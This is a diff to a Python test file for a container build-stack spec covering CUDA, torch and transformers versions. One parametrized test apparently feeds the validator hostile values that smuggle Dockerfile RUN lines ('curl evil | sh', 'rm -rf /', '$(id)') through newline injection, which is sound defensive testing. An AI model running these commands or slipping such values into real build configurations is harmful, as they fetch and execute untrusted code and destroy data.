@@ -20,7 +20,12 @@ def test_real_stack_loads_with_lineage_and_short_names() -> None:
     assert spec.closure(["tf5"]) == ["vllm-node", "vllm-node-tf5"]
     node = spec.images["vllm-node"]
     assert node.base == "nvidia/cuda:13.2.0-devel-ubuntu24.04"
-    assert spec.images["vllm-node-mimo"].params.transformers == "transformers>=5.0.0"
+    assert spec.images["vllm-node-tf5"].requires == ("transformers>=4.57,<5",)
+    assert spec.overrides_for("mimo")["transformers"].requirement == "transformers>=5.0.0"
+    assert spec.overrides_for("mimo")["torch"].requirement == "torch==2.11.0+cu130"
+    assert "torch" in spec.overrides_for("vllm-node") and "transformers" not in \
+        spec.overrides_for("tf5")
+    assert spec.target.python == "3.12" and spec.target.platform == "aarch64-manylinux_2_28"
     gate = spec.checks["torch-gate"]
     assert gate.kind == "output" and gate.expected == "2.11.0+cu130 13.0"
     assert "import torch" in gate.run[-1]
@@ -78,7 +83,8 @@ def test_wheel_filename_that_does_not_parse(stack: Stack) -> None:
 
 @pytest.mark.parametrize("old,new", [
     ("uv: uv\n", 'uv: "uv\\nRUN curl evil | sh"\n'),
-    ("transformers: transformers>=5.0.0", 'transformers: "transformers>=5\\rRUN x"'),
+    ('requires: ["transformers>=4.57,<5"]', 'requires: ["transformers>=5\\rRUN x"]'),
+    ("requirement: transformers>=5.0.0", 'requirement: "transformers>=5\\nRUN x"'),
     ("      uv: uv\n", '      uv: uv\n      apt_packages: ["curl\\nRUN rm -rf /"]\n'),
     ("      uv: uv\n", '      uv: uv\n      env: {A: "x\\nRUN y"}\n'),
     ("      uv: uv\n", '      uv: uv\n      env: {A: "$(id)"}\n'),
